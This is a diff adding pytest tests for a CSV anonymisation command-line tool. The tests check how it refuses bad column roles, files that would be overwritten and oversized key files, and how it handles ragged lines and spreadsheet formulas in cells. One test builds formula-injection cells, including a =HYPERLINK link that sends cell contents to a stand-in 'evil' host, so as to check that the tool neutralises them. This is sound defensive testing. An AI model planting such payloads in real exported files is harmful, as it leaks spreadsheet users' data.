@@ -623,3 +623,311 @@ def test_report_kind_guess_without_the_input():
     assert _kind_guess(pd.Series([1, 2]), None) == "real"
     assert _kind_guess(pd.Series(["a", "b"]), pd.Series([1, 2])) == "real"
     assert _kind_guess(pd.Series(["a", "b"]), None) == "unordered"
+
+
+# ============================================================================ issue 27: bad arguments are refused
+
+
+def _refused(*args):
+    """Run the command; it must fail with one ``depersonalize: error:`` line, exit code 2 and
+    nothing on standard output. Returns the message (without the prefix)."""
+    proc = run(*args, check_one_line_error=True)
+    assert proc.stdout == "", proc.stdout
+    return proc.stderr.strip()[len("depersonalize: error: "):]
+
+
+@pytest.mark.parametrize("cols, message", [
+    ("99", "--cols2shuffle names column 99, but the table has 5 columns (0..4)"),
+    ("5", "--cols2shuffle names column 5, but the table has 5 columns (0..4)"),
+    ("1,99", "--cols2shuffle names column 99, but the table has 5 columns (0..4)"),
+    ("-1", "--cols2shuffle: column numbers are 0 (the first column) or more, got -1"),
+    ("1,1", "--cols2shuffle names column 1 twice"),
+])
+def test_cols2shuffle_outside_the_table_is_refused(csv_with_header, cols, message):
+    # before: exit 0 and the input byte for byte (nothing shuffled)
+    for algorithm in ("shuffler", "batch_shuffler"):
+        assert _refused("-i", csv_with_header, "-f", "-a", algorithm, "--cols2shuffle", cols,
+                        "-s", 1) == message
+
+
+def test_cols2shuffle_must_name_a_column_the_shuffler_sees(csv_with_header):
+    # column 2 has no role: it is kept unchanged, so shuffling it would silently do nothing
+    assert _refused("-i", csv_with_header, "-f", "-a", "shuffler", "--qi_ids", "1",
+                    "--cols2shuffle", "2") == (
+        "--cols2shuffle names column 2, which has no role (--i_ids, --qi_ids, --s_ids), so it "
+        "would be written unchanged; give it a role or leave it out")
+    assert _refused("-i", csv_with_header, "-f", "-a", "datafly", "-k", 2,
+                    "--cols2shuffle", "1") == (
+        "--cols2shuffle applies to -a shuffler and -a batch_shuffler, not 'datafly'")
+
+
+@pytest.mark.parametrize("roles, message", [
+    (["--i_ids", "0", "--qi_ids", "0,1"],
+     "column 0 is given two roles, in --i_ids and in --qi_ids; give each column one role"),
+    (["--qi_ids", "1", "--s_ids", "1"],
+     "column 1 is given two roles, in --qi_ids and in --s_ids; give each column one role"),
+    (["--i_ids", "0,4", "--qi_ids", "1,2", "--s_ids", "4"],
+     "column 4 is given two roles, in --i_ids and in --s_ids; give each column one role"),
+    (["--qi_ids", "1,2,1"], "--qi_ids names column 1 twice"),
+    (["--qi_ids", "-1"], "--qi_ids: column numbers are 0 (the first column) or more, got -1"),
+    (["--i_ids", "-5", "--s_ids", "4"],
+     "--i_ids: column numbers are 0 (the first column) or more, got -5"),
+    (["--i_ids", "0", "--s_ids", "5"],
+     "--s_ids names column 5, but the table has 5 columns (0..4)"),
+    (["--qi_ids", "1,7"], "--qi_ids names column 7, but the table has 5 columns (0..4)"),
+])
+@pytest.mark.parametrize("algorithm", ["datafly", "time_optimal", "shuffler"])
+def test_roles_that_overlap_or_leave_the_table_are_refused(csv_with_header, roles, message,
+                                                           algorithm):
+    # before: --i_ids 0 --qi_ids 0,1 published the names (in sets); --qi_ids 1 --s_ids 1 died
+    # on "Buffer has wrong number of dimensions"; --qi_ids -1 was the last column
+    extra = ["-k", 2] if algorithm != "shuffler" else []
+    assert _refused("-i", csv_with_header, "-f", "-a", algorithm, *extra, *roles) == message
+
+
+def test_left_still_takes_the_other_columns(csv_with_header):
+    proc = run("-i", csv_with_header, "-f", "-a", "datafly", "-k", 2, "--i_ids", 0,
+               "--qi_ids", "left", "--s_ids", 4)
+    assert proc.returncode == 0, proc.stderr
+    assert list(read_out(proc.stdout).columns) == ["age", "edu", "sex", "disease"]
+
+
+@pytest.mark.parametrize("case", ["same", "symlink", "relative", "hardlink", "report=input",
+                                  "report=output", "report=output-symlink", "output=key",
+                                  "report=key"])
+def test_outputs_never_overwrite_an_input_or_each_other(tmp_path, monkeypatch, case):
+    src = tmp_path / "people.csv"
+    PEOPLE.to_csv(src, index=False)
+    before = src.read_bytes()
+    key = tmp_path / "hash.key"
+    key.write_bytes(KEY)
+    link = tmp_path / "link.csv"
+    args = ["-i", src, "-f", "-a", "datafly", "-k", 2, "--i_ids", 0, "--s_ids", 4]
+    out = tmp_path / "out.csv"
+    if case == "same":
+        args += ["-o", src]
+    elif case == "symlink":
+        link.symlink_to(src)
+        args += ["-o", link]
+    elif case == "relative":
+        monkeypatch.chdir(tmp_path)
+        args += ["-o", os.path.join(".", "sub", "..", "people.csv")]
+        (tmp_path / "sub").mkdir()
+    elif case == "hardlink":
+        os.link(src, link)
+        args += ["-o", link]
+    elif case == "report=input":
+        args += ["-o", out, "--report", src]
+    elif case == "report=output":
+        args += ["-o", out, "--report", out]
+    elif case == "report=output-symlink":
+        link.symlink_to(out)  # dangling until the output is written
+        args += ["-o", out, "--report", link]
+    elif case in ("output=key", "report=key"):
+        args = ["-i", src, "-f", "-a", "hasher", "--i_ids", 0, "--key-file", key]
+        args += ["-o", key] if case == "output=key" else ["-o", out, "--report", key]
+    message = _refused(*args)
+    assert "would overwrite" in message, message
+    assert src.read_bytes() == before and key.read_bytes() == KEY
+    assert not out.exists()
+
+
+def test_output_and_report_messages(tmp_path):
+    src = tmp_path / "people.csv"
+    PEOPLE.to_csv(src, index=False)
+    assert _refused("-i", src, "-f", "-k", 2, "-o", src) == (
+        f"-o {str(src)!r} would overwrite the input -i {str(src)!r}; write the output to "
+        "another file")
+    out = tmp_path / "out.csv"
+    assert _refused("-i", src, "-f", "-k", 2, "-o", out, "--report", out) == (
+        f"--report {str(out)!r} would overwrite the output -o {str(out)!r}; write the report "
+        "to another file")
+
+
+MAX_KEY = 4096
+
+
+def test_key_file_bound(tmp_path, csv_with_header):
+    from pdanon.cli import MAX_KEY_FILE_BYTES
+
+    assert MAX_KEY_FILE_BYTES == MAX_KEY
+    ok = tmp_path / "ok.key"
+    ok.write_bytes(b"k" * (MAX_KEY - 1) + b"\n")  # the bound, newline (stripped) included
+    proc = run("-i", csv_with_header, "-f", "-a", "hasher", "--i_ids", 0, "--key-file", ok)
+    assert proc.returncode == 0, proc.stderr
+    assert read_out(proc.stdout)["name"][0] == hmac.new(b"k" * (MAX_KEY - 1), b"ann",
+                                                        hashlib.sha256).hexdigest()
+    big = tmp_path / "big.key"
+    big.write_bytes(b"k" * (MAX_KEY - 1) + b"\r\n")
+    assert _refused("-i", csv_with_header, "-f", "-a", "hasher", "--i_ids", 0,
+                    "--key-file", big) == (
+        f"key file {str(big)!r} holds more than {MAX_KEY} bytes; a key is a short secret "
+        "(e.g. 64 hex digits): is it the right file?")
+
+
+@pytest.mark.skipif(not os.path.exists("/dev/zero"), reason="needs /dev/zero")
+def test_key_file_dev_zero_is_refused_quickly(csv_with_header):
+    import time
+
+    # before: read whole (5.3 GB, then MemoryError under the memory cap)
+    started = time.perf_counter()
+    assert _refused("-i", csv_with_header, "-f", "-a", "hasher", "--i_ids", 0,
+                    "--key-file", "/dev/zero") == (
+        f"key file '/dev/zero' holds more than {MAX_KEY} bytes; a key is a short secret (e.g. "
+        "64 hex digits): is it the right file?")
+    assert time.perf_counter() - started < 30
+
+
+@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="needs FIFOs")
+def test_key_file_endless_fifo_is_refused(tmp_path, csv_with_header):
+    import threading
+
+    fifo = tmp_path / "key.fifo"
+    os.mkfifo(fifo)
+
+    def endless():
+        try:
+            with open(fifo, "wb") as fh:
+                while True:
+                    fh.write(b"x" * 65536)
+        except OSError:  # the reader closed it
+            pass
+
+    writer = threading.Thread(target=endless, daemon=True)
+    writer.start()
+    assert _refused("-i", csv_with_header, "-f", "-a", "hasher", "--i_ids", 0,
+                    "--key-file", fifo).startswith(f"key file {str(fifo)!r} holds more than")
+    writer.join(10)
+    assert not writer.is_alive()
+
+
+@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="needs FIFOs")
+def test_key_file_fifo_without_a_writer_does_not_hang(tmp_path, csv_with_header):
+    fifo = tmp_path / "key.fifo"
+    os.mkfifo(fifo)
+    assert "is empty" in _refused("-i", csv_with_header, "-f", "-a", "hasher", "--i_ids", 0,
+                                  "--key-file", fifo)
+
+
+# ============================================================================ issue 27: ragged CSV lines
+
+
+TRAILING = "name,age,sex\nann,30,F,\nbob,31,M,\ncid,40,M,\ndan,42,F,\n"
+
+
+def test_trailing_commas_are_refused_with_the_line_number(tmp_path):
+    # before: pandas made column 0 (the names) the index, every column shifted by one and
+    # --report named the suppressed rows by that index: people's names
+    path = tmp_path / "t.csv"
+    path.write_text(TRAILING)
+    report = tmp_path / "r.html"
+    message = _refused("-i", path, "-f", "-a", "datafly", "-k", 2, "--qi_ids", "1,2",
+                       "-o", tmp_path / "o.csv", "--report", report)
+    assert message == (
+        f"cannot read {str(path)!r}: line 2 has 4 fields, but the header (line 1) has 3 (a "
+        "trailing comma, or a comma in a cell that is not quoted?); every line must have as "
+        "many fields as the header")
+    assert not report.exists() and not (tmp_path / "o.csv").exists()
+
+
+@pytest.mark.parametrize("text, header, message", [
+    ("a,b,c\n1,2,3\n4,5,6\n7,8\n", True,
+     "line 4 has 2 fields, but the header (line 1) has 3"),
+    ("a,b,c\n1,2,3\n\n4,5,6,7\n", True, "line 4 has 4 fields, but the header (line 1) has 3"),
+    ('a,b,c\n1,"x\ny",3\n4,5,6,\n', True,
+     "line 4 has 4 fields, but the header (line 1) has 3"),
+    ("1,2,3\n4,5,6\n7,8,9,10\n", False, "line 3 has 4 fields, but line 1 has 3"),
+    ("1,2,3\n4,5\n", False, "line 2 has 2 fields, but line 1 has 3"),
+])
+def test_ragged_lines_name_the_line(tmp_path, text, header, message):
+    path = tmp_path / "r.csv"
+    path.write_text(text)
+    got = _refused("-i", path, *(["-f"] if header else []), "-a", "shuffler")
+    assert got.startswith(f"cannot read {str(path)!r}: {message} ("), got
+
+
+def test_a_100000_field_line_is_refused_in_well_under_a_second(tmp_path, capsys):
+    import time
+
+    from pdanon.cli import main
+
+    # before: pandas built a 99,999-level implicit index and the command hung
+    path = tmp_path / "wide.csv"
+    path.write_text("a,b\n" + ",".join(["1"] * 100_000) + "\n")
+    assert path.stat().st_size > 200_000
+    for header in (["-f"], []):
+        started = time.perf_counter()
+        assert main(["-i", str(path), *header, "-a", "shuffler"]) == 2
+        assert time.perf_counter() - started < 1.0
+        err = capsys.readouterr().err
+        assert "line 2 has 100000 fields, but" in err and len(err.splitlines()) == 1
+
+
+def test_equal_field_counts_with_quotes_blank_lines_and_spaces_still_read(tmp_path):
+    path = tmp_path / "ok.csv"
+    path.write_text('a,b\n1, "x, y"\n\n  \n2,"multi\nline"\n')
+    proc = run("-i", path, "-f", "-a", "shuffler", "--cols2shuffle", 0, "-s", 1)
+    assert proc.returncode == 0, proc.stderr
+    assert proc.stdout == 'a,b\n1,"x, y"\n2,"multi\nline"\n'
+
+
+# ============================================================================ issue 27: line breaks in cells
+
+
+BREAKS = ["\r", "\n", "\r\n", "\v", "\f", "\x1c", "\x1d", "\x1e", "\x85", "\u2028", "\u2029"]
+FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+
+
+def _rows_never_start_a_formula(text: str, n_rows: int, note_values=None) -> None:
+    import csv as _csv
+
+    rows = list(_csv.reader(io.StringIO(text, newline="")))
+    assert len(rows) == n_rows + 1
+    for row in rows:
+        for cell in row:
+            assert not cell.startswith(FORMULA_START), row
+    if note_values is not None:
+        assert [r[1] for r in rows[1:]] == note_values
+    frame = pd.read_csv(io.StringIO(text), dtype=str, keep_default_na=False)
+    assert len(frame) == n_rows and list(frame.columns) == rows[0]
+    assert frame.to_numpy().tolist() == [r for r in rows[1:]]
+    for line in text.splitlines():  # a reader that splits lines before it reads quotes
+        rest = line.lstrip('"')  # (an odd number of quotes opens a cell: its own text)
+        if (len(line) - len(rest)) % 2 == 0:
+            assert not rest.startswith(FORMULA_START), repr(line)
+
+
+def test_line_breaks_before_a_formula_are_quoted_and_guarded(tmp_path):
+    # before: a bare \r before =HYPERLINK(...) was written unquoted; CSV readers split the
+    # line there and the formula started a new row, past the ' guard
+    notes = [f"x{b}=HYPERLINK(\"http://evil/?\"&A1)" for b in BREAKS] + [
+        "\r=HYPERLINK(1)", "\n+1", "a\r\n@SUM(A1)", 'a\n"=1+2"', "plain"]
+    src = tmp_path / "notes.csv"
+    with open(src, "w", newline="", encoding="utf-8") as fh:
+        import csv as _csv
+
+        w = _csv.writer(fh, quoting=_csv.QUOTE_ALL, lineterminator="\n")
+        w.writerow(["id", "note"])
+        w.writerows([[i, n] for i, n in enumerate(notes)])
+    proc = run("-i", src, "-f", "-a", "shuffler", "--cols2shuffle", 0, "-s", 1)
+    assert proc.returncode == 0, proc.stderr
+    from pdanon.csvsafe import neutralize_formulas
+
+    expected = neutralize_formulas(pd.DataFrame({"note": notes}))["note"].tolist()
+    assert expected[0] == "x\r'=HYPERLINK(\"http://evil/?\"&A1)"
+    assert expected[len(BREAKS)] == "'\r'=HYPERLINK(1)"
+    out = tmp_path / "o.csv"
+    assert run("-i", src, "-f", "-a", "shuffler", "--cols2shuffle", 0, "-s", 1,
+               "-o", out).returncode == 0
+    with open(out, encoding="utf-8", newline="") as fh:
+        written = fh.read()
+    _rows_never_start_a_formula(written, len(notes), expected)
+    # without the formula guard the cells are still quoted: a CSV reader gets them back whole
+    raw = tmp_path / "raw.csv"
+    assert run("-i", src, "-f", "-a", "shuffler", "--cols2shuffle", 0, "-s", 1,
+               "--no-csv-escape", "-o", raw).returncode == 0
+    with open(raw, encoding="utf-8", newline="") as fh:
+        import csv as _csv
+
+        rows = list(_csv.reader(fh))
+    assert [r[1] for r in rows[1:]] == notes
